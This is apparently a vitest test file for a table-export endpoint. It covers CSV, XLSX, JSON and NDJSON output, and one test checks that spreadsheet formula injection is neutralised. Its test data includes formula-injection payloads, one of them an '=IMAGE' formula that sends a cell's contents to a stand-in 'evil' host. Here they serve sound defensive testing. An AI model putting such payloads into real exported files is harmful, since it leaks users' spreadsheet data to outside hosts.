import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Column } from "../../../contract/cells.ts";
import { ExportedTable } from "../../../contract/table-history.ts";
import { createTestApp, type Person, type TestApp } from "../../../testing/app.ts";
import { json, playableEngine } from "../../../testing/chat.ts";
import { makeTable, rowsOf } from "../../../testing/tables.ts";

const engine = playableEngine();
let app: TestApp;
let ada: Person;
const columns: Column[] = [
  { name: "Number", type: "id" },
  { name: "Due", type: "date" },
  { name: "Total", type: "currency" },
  { name: "=Note", type: "text" },
];

beforeAll(async () => {
  app = await createTestApp(engine.options);
  ada = await app.signIn();
});
afterAll(() => app.close());

const get = (id: string, query: string) => ada.request("GET", `/api/v1/tables/${id}/export?${query}`);

async function invoices(): Promise<string> {
  const { id } = await makeTable(ada, engine, columns, [
    ["007", "2026-04-13", "€1,250.50", 'He said "a, b"'],
    ["A-2", "2026-04-14", "-5.00 USD", "=1+1"],
  ]);
  return id;
}

async function notes(texts: string[]): Promise<string> {
  const rows = texts.map((text) => [text]);
  return (await makeTable(ada, engine, [{ name: "Note", type: "text" }], rows)).id;
}

async function sheetOf(response: Response): Promise<{ sheet: string; styles: string }> {
  const parts = unzipSync(new Uint8Array(await response.arrayBuffer()));
  const part = (name: string) => strFromU8(parts[name] ?? new Uint8Array());
  return { sheet: part("xl/worksheets/sheet1.xml"), styles: part("xl/styles.xml") };
}

test("200 as CSV, under the table's title, with the currencies in a column of their own", async () => {
  const response = await get(await invoices(), "format=csv");
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
  expect(response.headers.get("content-disposition")).toBe(
    `attachment; filename="T.csv"; filename*=UTF-8''T.csv`,
  );
  expect(Buffer.from(await response.arrayBuffer()).toString()).toBe(
    "\uFEFFNumber,Due,Total,Total (currency),'=Note\r\n" +
      '007,2026-04-13,1250.5,EUR,"He said ""a, b"""\r\n' +
      "A-2,2026-04-14,-5,USD,'=1+1\r\n",
  );
});

const attacks = [
  '=IMAGE("https://evil/?d="&A1)',
  ...["+1+1", "-1+cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "\u00a0=1", "\u200b=1", "＝1+1", "\tx"],
];

test("200 as CSV where nothing that a spreadsheet runs stands at a cell's beginning, unless it is kept", async () => {
  const id = await notes([...attacks, "a=1", "'=1+1"]);
  const cells = async (query: string) => {
    const text = await (await get(id, `format=csv${query}`)).text();
    return text
      .split("\r\n")
      .slice(1, -1)
      .map((line) => line.replace(/^"|"$/g, "").replaceAll('""', '"'));
  };
  const stored = (await rowsOf(ada, id)).map((row) => String(row.cells[0]?.value));
  expect(await cells("")).toEqual([...stored.slice(0, -2).map((text) => `'${text}`), "a=1", "'=1+1"]);
  expect(await cells("&formulas=keep")).toEqual(stored);
});

test("200 as XLSX with typed values, number formats, and no formula", async () => {
  const { sheet, styles } = await sheetOf(await get(await invoices(), "format=xlsx"));
  expect(sheet).toContain('<c r="A2" s="1" t="inlineStr"><is><t xml:space="preserve">007</t></is></c>');
  expect(sheet).toContain('<c r="B2" s="3"><v>46125</v></c><c r="C2" s="4"><v>1250.5</v></c>');
  expect(sheet).toContain('<t xml:space="preserve">=1+1</t>');
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(styles).toMatch(/formatCode="yyyy-mm-dd".*formatCode="#,##0.00"/);
});

test("200 as XLSX for text that is no XML", async () => {
  const { sheet } = await sheetOf(
    await get(await notes(["<a & b>\u0001 beside enough of a text that is one", "_x0041_"]), "format=xlsx"),
  );
  expect(sheet).toContain("&lt;a &amp; b&gt;\uFFFD");
  expect(sheet).toContain("_x005F_x0041_");
});

test("200 as JSON and NDJSON with what the text said and where", async () => {
  const id = await invoices();
  const first = {
    values: { Number: "007", Due: "2026-04-13", Total: 1250.5 },
    cells: [{ value: "007" }, {}, { value: 1250.5, raw: "€1,250.50", spans: [{ start: 15, end: 24 }] }, {}],
  };
  const whole = await json<object>(await get(id, "format=json"));
  expect(ExportedTable.parse(whole)).toEqual(whole);
  expect(whole).toMatchObject({ table: { id, title: "T", version: 1 }, rows: [first, {}] });
  const lines = (await (await get(id, "format=ndjson")).text()).trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line))).toMatchObject([first, {}]);
});

test("200 with every one of 1,201 rows in order; one fixed cell of them writes one row", async () => {
  const id = await notes(Array.from({ length: 1_201 }, (_, index) => `n${index}`));
  const rows = async () => {
    const [count] = await app.deps.sql<{ rows: number }[]>`
      select count(*)::integer as rows from table_rows where table_id = ${id}`;
    return count?.rows;
  };
  expect(await rows()).toBe(1_201);
  const rowId = (await rowsOf(ada, id))[400]?.id;
  const operations = [{ op: "set-cell", rowId, column: "Note", value: "fixed" }];
  const body = { baseVersion: 1, locale: "en", timeZone: "UTC", operations };
  expect((await ada.request("PATCH", `/api/v1/tables/${id}`, { body })).status).toBe(200);
  expect(await rows()).toBe(1_202);
  const lines = (await (await get(id, "format=csv")).text()).split("\r\n").slice(1, -1);
  expect(lines).toEqual(Array.from({ length: 1_201 }, (_, index) => (index === 400 ? "fixed" : `n${index}`)));
  expect((await (await get(id, "format=csv&version=1")).text()).split("\r\n")[401]).toBe("n400");
});

test("404 for a version that was never made; 422 for a format that there is not", async () => {
  const id = await notes(["a"]);
  expect((await get(id, "format=csv&version=2")).status).toBe(404);
  expect((await get(id, "format=pdf")).status).toBe(422);
});
